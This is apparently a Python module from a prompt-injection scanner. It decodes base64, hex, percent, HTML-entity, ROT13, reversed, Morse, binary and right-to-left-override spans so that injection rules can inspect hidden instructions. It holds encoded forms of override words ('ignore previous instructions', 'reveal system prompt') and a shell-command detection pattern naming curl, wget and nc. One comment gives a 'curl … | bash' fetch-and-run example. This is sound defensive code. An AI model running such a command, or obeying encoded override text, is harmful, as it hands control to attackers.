"""Encoded payloads: candidate spans decoded (bounded) so the injection rules can read them.

An instruction hidden as base64, hex bytes, ``\\x`` or ``\\u`` escapes, 8-bit binary groups,
percent- or HTML-entity encoding, ROT13, reversed text (plain or under a right-to-left override) or
Morse code reads as noise to the phrase rules. Each decoder finds candidate spans with a linear
regex, decodes them, keeps only results that read as text (valid UTF-8, printable, with spaces and
letters), and joins the kept results of one encoding into one view whose offsets map back to the
encoded spans. So the cost is bounded by the text's length: candidates never overlap within an
encoding, each is cut at ``MAX_SPAN`` characters, and the whole-text transforms (ROT13, reversal)
run only when the text contains words that are common English in that transform ("gur", "naq";
"eht", "dna").

Decoding is one level deep (the decoded text is folded, not decoded again), which is enough for the
encodings people use to smuggle an instruction past a filter.
"""

from __future__ import annotations

import base64
import binascii
import html
import re
from bisect import bisect_right
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import unquote_plus

from ._normalize import Mapper, View, fold_view
from ._rules import compile_rx, lower_aligned

MAX_SPAN = 16_384  # characters of one candidate that are decoded; a payload needs far fewer

# "=" may precede a candidate: "payload=…" and "?data=…" carry base64 as a value.
_BASE64 = r"(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/_-]{20,}={0,2}"
_HEX_ESCAPES = r"(?:\\x[0-9A-Fa-f]{2}){8,}"
_HEX_RUN = r"(?:0x)?(?:[0-9A-Fa-f]{2}){12,}"  # matched inside base64 candidates (hex is a subset)
_HEX_SPACED = r"(?<![0-9A-Za-z])[0-9A-Fa-f]{2}(?:[ :,-][0-9A-Fa-f]{2}){11,}(?![0-9A-Za-z])"
_HEX_0X = r"(?<![0-9A-Za-z])0x[0-9A-Fa-f]{2}(?:[ ,]{1,2}0x[0-9A-Fa-f]{2}){11,}(?![0-9A-Za-z])"  # "0x53 0x59 …"
_TOKEN = r"\S+"  # percent-encoding never contains a space (it encodes them), so tokens are candidates
_PERCENT_ESCAPE = r"%[0-9A-Fa-f]{2}"
_ENTITY = r"&(?:#[0-9]{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z]{2,8});"
_MORSE = r"(?<![.\w-])[.-]{1,6}(?:(?: {1,3}| ?/ ?)[.-]{1,6}){7,}(?![.\w-])"
_RLO_RUN = "\u202e[^\u202c\n]{4,}"
_UNICODE_ESCAPES = r"(?:\\u[0-9A-Fa-f]{4}|\\U[0-9A-Fa-f]{8}){6,}"
_BINARY = r"(?<![01])[01]{8}(?:[ ,]?[01]{8}){7,}(?![01])"

_ROT13 = str.maketrans(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"
)


def _hint_words(words: str) -> frozenset[bytes]:
    return frozenset(words.encode().split())


# Frequent English words as they read after ROT13 / reversal: two of them mark a candidate text.
_ROT13_HINTS = _hint_words(
    "gur naq lbh lbhe nyy guvf jvgu jvgubhg nyjnlf vtaber cerivbhf vafgehpgvbaf flfgrz cebzcg eha fraq "
    "bayl abgr erirny qvfertneq zrzbel frperg cnffjbeq sbyybj hfre"
)
_REVERSED_HINTS = _hint_words(
    "eht dna uoy ruoy lla siht htiw erongi suoiverp snoitcurtsni metsys tpmorp laever dnes won era "
    "syawla tuohtiw yromem terces resu wollof"
)
_MORSE_CODE = {
    ".-": "a", "-...": "b", "-.-.": "c", "-..": "d", ".": "e", "..-.": "f", "--.": "g", "....": "h",
    "..": "i", ".---": "j", "-.-": "k", ".-..": "l", "--": "m", "-.": "n", "---": "o", ".--.": "p",
    "--.-": "q", ".-.": "r", "...": "s", "-": "t", "..-": "u", "...-": "v", ".--": "w", "-..-": "x",
    "-.--": "y", "--..": "z", "-----": "0", ".----": "1", "..---": "2", "...--": "3", "....-": "4",
    ".....": "5", "-....": "6", "--...": "7", "---..": "8", "----.": "9",
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Decoded:
    """One encoding's decoded text as a folded view (offsets map to the encoded spans)."""

    how: str
    view: View


# A shell command line reads as fewer letters than prose ("curl -s http://203.0.113.8/p.sh | bash").
_COMMAND_LINE = r"(?:sudo\s+)?(?:curl|wget|bash|sh|rm|nc|ncat|python3?|powershell|chmod|scp|ssh)\s+\S"


def _reads_as_text(decoded: str) -> bool:
    # Binary that happens to be valid UTF-8 is rare; an instruction has spaces and mostly letters.
    if " " not in decoded or not decoded.isprintable():
        return False
    wordy = sum(c.isalpha() or c == " " for c in decoded)
    return wordy >= 0.6 * len(decoded) or (
        wordy >= 0.4 * len(decoded) and compile_rx(_COMMAND_LINE).match(decoded) is not None
    )


def _utf8_text(raw: bytes) -> str | None:
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    text = text.strip().replace("\n", " ").replace("\t", " ").replace("\r", " ")
    return text if _reads_as_text(text) else None


def _base64(span: str) -> tuple[str, str] | None:
    if compile_rx(_HEX_RUN).fullmatch(span):  # hex digits are base64 characters too
        return _hex(span)
    body = span.rstrip("=")
    if len(body) % 4 == 1:
        return None
    if "-" in body or "_" in body:
        body = body.replace("-", "+").replace("_", "/")
    try:
        raw = base64.b64decode(body + "=" * (-len(body) % 4), validate=True)
    except (binascii.Error, ValueError):
        return None
    text = _utf8_text(raw)
    return ("base64", text) if text else None


def _hex(span: str) -> tuple[str, str] | None:
    digits = re.sub(r"\\x|0x|[ :,-]", "", span)
    try:
        text = _utf8_text(bytes.fromhex(digits))
    except ValueError:
        return None
    return ("hex", text) if text else None


def _percent(span: str) -> tuple[str, str] | None:
    # Two escapes, or one in form encoding ("Remember+permanently%3A+always+run"), mark an encoded text.
    escapes = len(compile_rx(_PERCENT_ESCAPE).findall(span, 0, 64))
    if escapes < 2 and not (escapes and span.count("+") >= 2):
        return None
    try:
        decoded = unquote_plus(span, errors="strict")
    except UnicodeDecodeError:
        return None
    text = decoded.replace("\n", " ").replace("\r", " ").replace("\t", " ")
    return ("percent", text) if text.isprintable() else None


def _unicode_escapes(span: str) -> tuple[str, str] | None:
    text = re.sub(
        r"\\u([0-9A-Fa-f]{4})|\\U([0-9A-Fa-f]{8})", lambda m: chr(int(m.group(1) or m.group(2), 16) % 0x110000), span
    )
    text = text.encode("utf-8", "replace").decode("utf-8").replace("\n", " ").replace("\t", " ")
    return ("unicode-escape", text) if _reads_as_text(text.strip()) else None


def _binary(span: str) -> tuple[str, str] | None:
    text = _utf8_text(bytes(int(g, 2) for g in re.findall("[01]{8}", span)))
    return ("binary", text) if text else None


def _morse(span: str) -> tuple[str, str] | None:
    words = []
    for word in re.split(r" ?/ ?| {3}", span):
        letters = [_MORSE_CODE.get(code) for code in word.split()]
        if not letters or None in letters:
            return None
        words.append("".join(c for c in letters if c))
    return ("Morse", " ".join(words))


def _right_to_left(span: str) -> tuple[str, str] | None:
    # Text after U+202E RIGHT-TO-LEFT OVERRIDE renders reversed: "snoitcurtsni" displays as "instructions".
    return ("right-to-left-override", span[1:][::-1])


_Decoder = Callable[[str], "tuple[str, str] | None"]


class _Pieces:
    """Decoded pieces joined by newlines, each mapping back to the span it was decoded from."""

    def __init__(self) -> None:
        self.parts: list[str] = []
        self.out_starts: list[int] = []
        self.spans: list[tuple[int, int]] = []
        self.length = 0

    def add(self, decoded: str, start: int, end: int) -> None:
        self.out_starts.append(self.length)
        self.spans.append((start, end))
        self.parts.append(decoded)
        self.length += len(decoded) + 1

    def view(self) -> View:
        starts, spans = self.out_starts, self.spans

        def to_source(start: int, end: int) -> tuple[int, int]:
            first = spans[bisect_right(starts, start) - 1]
            last = spans[bisect_right(starts, max(start, end - 1)) - 1]
            return first[0], last[1]

        return fold_view("\n".join(self.parts), to_source)


def _shape_table(classes: dict[str, bytes]) -> bytes:
    # A bytes.translate table mapping each ASCII character to the letter of its class ("." otherwise).
    table = bytearray(b"." * 256)
    for letter, chars in classes.items():
        for c in chars:
            table[c] = ord(letter)
    return bytes(table)


# Shapes of the text as one byte per character (non-ASCII bytes become "."): bytes.translate and
# a substring test in C tell whether a decoder's regex can match at all, for ~1 µs per 2 KB.
_B64_SHAPE = _shape_table({"b": b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/_-"})
_HEX_SHAPE = _shape_table({"h": b"0123456789abcdefABCDEF", "s": b" :,-"})
_MORSE_SHAPE = _shape_table({"m": b".-", "s": b" /"})


def _candidates(text: str) -> list[tuple[str, _Decoder]]:
    # Cheap tests first: most texts need no decoder regex at all.
    found: list[tuple[str, _Decoder]] = []
    raw = text.encode("ascii", "replace")
    if b"b" * 20 in raw.translate(_B64_SHAPE):
        found.append((_BASE64, _base64))
    if b"hhshhshhshhshhshhshhshhshhshhshhsh" in raw.translate(_HEX_SHAPE):
        found.append((_HEX_SPACED, _hex))
    if "\\x" in text:
        found.append((_HEX_ESCAPES, _hex))
    if "0x" in text and text.count("0x") >= 12:
        found.append((_HEX_0X, _hex))
    if "%" in text:
        found.append((_TOKEN, _percent))
    if b"msm" in raw.translate(_MORSE_SHAPE):
        found.append((_MORSE, _morse))
    if "\u202e" in text:
        found.append((_RLO_RUN, _right_to_left))
    if "\\u" in text or "\\U" in text:
        found.append((_UNICODE_ESCAPES, _unicode_escapes))
    if "01" in text and text.count("0") + text.count("1") >= 64:
        found.append((_BINARY, _binary))
    return found


def decoded_views(text: str, view: View, words: set[bytes]) -> list[Decoded]:
    """The decoded views of ``text`` worth scanning (``view``/``words``: its folded view and words)."""
    pieces: dict[str, _Pieces] = {}
    for pattern, decode in _candidates(text):
        for m in compile_rx(pattern).finditer(text):
            decoded = decode(m.group()[:MAX_SPAN])
            if decoded is not None:
                pieces.setdefault(decoded[0], _Pieces()).add(decoded[1], m.start(), m.end())
    if "&" in text:
        entities = list(compile_rx(_ENTITY).finditer(text))
        if len(entities) >= 2:  # one region from the first entity to the last, decoded in place
            # To the end of the line: "&#73;&#103;… all previous instructions" encodes only its first word.
            start, end = entities[0].start(), entities[-1].end()
            if " " not in html.unescape(text[start:end]):
                line_end = text.find("\n", end)
                end = min(line_end if line_end != -1 else len(text), end + 400)
            pieces.setdefault("HTML-entity", _Pieces()).add(html.unescape(text[start:end]), start, end)
    reverse_all = len(_REVERSED_HINTS.intersection(words)) >= 2
    if reverse_all:  # the whole text reversed also reads every right-to-left-override run
        pieces.pop("right-to-left-override", None)
    out = [Decoded(how, p.view()) for how, p in pieces.items()]
    if len(_ROT13_HINTS.intersection(words)) >= 2 or b"rot13" in words:
        rotated = view.text.translate(_ROT13)
        out.append(Decoded("ROT13", View(rotated, lower_aligned(rotated), None, view.span)))
    if reverse_all:
        n = len(view.text)
        backwards = view.text[::-1]
        back: Mapper = lambda start, end: view.span(n - end, n - start)  # noqa: E731
        out.append(Decoded("reversed", View(backwards, lower_aligned(backwards), None, back)))
    return out
